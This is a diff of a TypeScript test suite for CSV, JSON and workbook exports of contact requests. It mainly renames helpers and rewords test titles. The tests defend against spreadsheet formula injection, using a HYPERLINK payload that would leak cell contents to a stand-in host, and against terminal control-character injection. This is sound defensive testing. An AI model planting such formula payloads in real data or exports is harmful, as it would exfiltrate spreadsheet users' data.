@@ -48,8 +48,8 @@ const exported = async (
   changes: readonly Partial<OpenedRequest>[],
 ) => (await Array.fromAsync(as(rowsOf(changes)))).join('');
 
-/** Parses CSV into records of cells. Throws for input that RFC 4180 does not allow. */
-function parsedCsv(text: string): string[][] {
+/** Parses CSV into records of cells. Fails if it violates RFC 4180. */
+function parseCsv(text: string): string[][] {
   const records: string[][] = [[]];
   const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
   while (cell.lastIndex < text.length) {
@@ -62,19 +62,17 @@ function parsedCsv(text: string): string[][] {
   return records.slice(0, -1);
 }
 
-/**
- * Exports CSV, and returns the cells of each record by header. Checks the byte order mark, by which spreadsheets detect UTF-8.
- */
-async function csvOf(changes: readonly Partial<OpenedRequest>[]): Promise<Record<string, string>[]> {
+/** Returns the cells by header. Checks the byte order mark, by which spreadsheets recognize UTF-8. */
+async function exportToCsv(changes: readonly Partial<OpenedRequest>[]): Promise<Record<string, string>[]> {
   const text = await exported(exportCsv, changes);
   expect(Buffer.from(text).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
-  const [names = [], ...records] = parsedCsv(text.slice(1));
+  const [names = [], ...records] = parseCsv(text.slice(1));
   expect(names).toEqual(header);
   for (const record of records) expect(record).toHaveLength(header.length);
   return records.map((record) => Object.fromEntries(names.map((name, i) => [name, record[i] ?? ''])));
 }
 
-const jsonOf = async (changes: readonly Partial<OpenedRequest>[]) =>
+const exportToJson = async (changes: readonly Partial<OpenedRequest>[]) =>
   JSON.parse(await exported(exportJson, changes));
 
 const answered: Partial<OpenedRequest> = {
@@ -86,8 +84,10 @@ const answered: Partial<OpenedRequest> = {
 
 describe('CSV', () => {
   test('has a header, and a line for each request, with the service by its label', async () => {
-    expect(await csvOf([])).toEqual([]);
-    expect(await csvOf([answered, { service_interest: '' }, { service_interest: 'yachts' }])).toMatchObject([
+    expect(await exportToCsv([])).toEqual([]);
+    expect(
+      await exportToCsv([answered, { service_interest: '' }, { service_interest: 'yachts' }]),
+    ).toMatchObject([
       {
         reference: 'VR-7K3Q-9F2M',
         receivedAt: '2026-03-06T21:30:00.000Z',
@@ -106,10 +106,10 @@ describe('CSV', () => {
   });
 
   test.each(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])(
-    'a cell that begins with %j is no formula in any column of the visitor’s',
+    'a visitor’s text that begins with %j is not a formula in any column',
     async (first) => {
       const text = `${first}HYPERLINK("https://x.example?"&A1,"x")`;
-      const [request] = await csvOf([
+      const [request] = await exportToCsv([
         { name: text, email: text, phone: text, company: text, message: text, answered_by: text },
       ]);
       for (const column of ['name', 'email', 'phone', 'company', 'message', 'answeredBy'])
@@ -128,7 +128,7 @@ describe('CSV', () => {
     'Hélène, נורה, 健一 🌙',
     ' = after a space',
   ])('%j comes back as it was', async (message) => {
-    expect(await csvOf([{ message }, {}])).toMatchObject([{ message }, { message: stored.message }]);
+    expect(await exportToCsv([{ message }, {}])).toMatchObject([{ message }, { message: stored.message }]);
   });
 
   test.each([
@@ -138,19 +138,19 @@ describe('CSV', () => {
     ['first\n=1+1\r\n@x\r-1', "first\n'=1+1\r\n'@x\r'-1"],
     ['tab\t=1+1', "tab\t'=1+1"],
   ])('%j begins no formula where cells end at semicolons, tabs or lines', async (message, kept) => {
-    expect(await csvOf([{ message }])).toMatchObject([{ message: kept }]);
+    expect(await exportToCsv([{ message }])).toMatchObject([{ message: kept }]);
   });
 
   test.each(['0049170123456', '020 7946 0018', '12345678901234567890', '1e5', '12/24'])(
     'the telephone number %s stays text in a spreadsheet',
     async (phone) => {
-      expect(await csvOf([{ phone }])).toMatchObject([{ phone: `'${phone}` }]);
+      expect(await exportToCsv([{ phone }])).toMatchObject([{ phone: `'${phone}` }]);
     },
   );
 
-  test('reasons for doubt are told until somebody clears them', async () => {
+  test('reasons for doubt are exported until the request is cleared', async () => {
     const doubts = '["links","quick"]';
-    expect(await csvOf([{ doubts }, { doubts, cleared_at: stored.received_at }])).toMatchObject([
+    expect(await exportToCsv([{ doubts }, { doubts, cleared_at: stored.received_at }])).toMatchObject([
       { doubtful: 'links, quick' },
       { doubtful: '' },
     ]);
@@ -159,18 +159,18 @@ describe('CSV', () => {
 
 describe('JSON', () => {
   test('is an array, of none, one or many', async () => {
-    for (const many of [0, 1, 3]) expect(await jsonOf(Array(many).fill({}))).toHaveLength(many);
+    for (const many of [0, 1, 3]) expect(await exportToJson(Array(many).fill({}))).toHaveLength(many);
   });
 
-  test('has the columns of CSV, and nothing technical', async () => {
-    const [request] = await jsonOf([answered]);
+  test('has the columns of CSV only', async () => {
+    const [request] = await exportToJson([answered]);
     expect(Object.keys(request)).toEqual(header);
     expect(JSON.stringify(request)).not.toMatch(/hash|the key/);
   });
 
-  test('values are as they were written, and what there is not is null', async () => {
+  test('values are unchanged, and missing ones are null', async () => {
     const message = '=1+1\t"quoted"\r\n＝ \u2028';
-    expect(await jsonOf([{ message, doubts: '["links"]' }])).toMatchObject([
+    expect(await exportToJson([{ message, doubts: '["links"]' }])).toMatchObject([
       { phone: '+44 20 7946 0018', message, answeredAt: null, doubtful: ['links'] },
     ]);
   });
@@ -179,12 +179,12 @@ describe('JSON', () => {
 describe('controls of a terminal', () => {
   const message = '\u001b[2J\u0007\u009b1m\u202eesrever\tafter\n\u{1f469}\u200d\u{1f373}';
 
-  test('are written as code points in a cell, beside what belongs to a text', async () => {
+  test('are written as code points in a cell, except tabs and line breaks', async () => {
     const shown = '\\u{1b}[2J\\u{7}\\u{9b}1m\\u{202e}esrever\tafter\n\u{1f469}\u200d\u{1f373}';
-    expect(await csvOf([{ message, name: message }])).toMatchObject([{ message: shown, name: shown }]);
+    expect(await exportToCsv([{ message, name: message }])).toMatchObject([{ message: shown, name: shown }]);
   });
 
-  test('are escaped in JSON, which keeps them', async () => {
+  test('are escaped in JSON', async () => {
     const text = await exported(exportJson, [{ message, name: message }]);
     expect(text).not.toMatch(/[\p{Cc}--\n]|\u202e/v);
     expect(JSON.parse(text)).toMatchObject([{ message, name: message }]);
@@ -222,7 +222,7 @@ describe('a workbook', () => {
     expect(row).toMatchObject({ name: text, phone: text, message: text });
   });
 
-  test('has no controls, and no more in a cell than Excel takes', async () => {
+  test('has no control characters, and no longer cells than Excel supports', async () => {
     const [sheet] = await workbookOf([{ name: 'a\u0000\u001bb', message: '🌙'.repeat(20_000) }]);
     const [name, message] = ['name', 'message'].map((column) => sheet?.rows[1]?.[header.indexOf(column)]);
     expect(name).toBe('a\\u{0}\\u{1b}b');
@@ -231,7 +231,7 @@ describe('a workbook', () => {
   });
 });
 
-test.each([exportCsv, exportJson])('%o passes each request on before it asks for the next', async (as) => {
+test.each([exportCsv, exportJson])('%o writes each request before it reads the next one', async (as) => {
   let asked = 0;
   async function* rows() {
     for (; asked < 3; asked += 1) yield toTableRequest(stored, words);
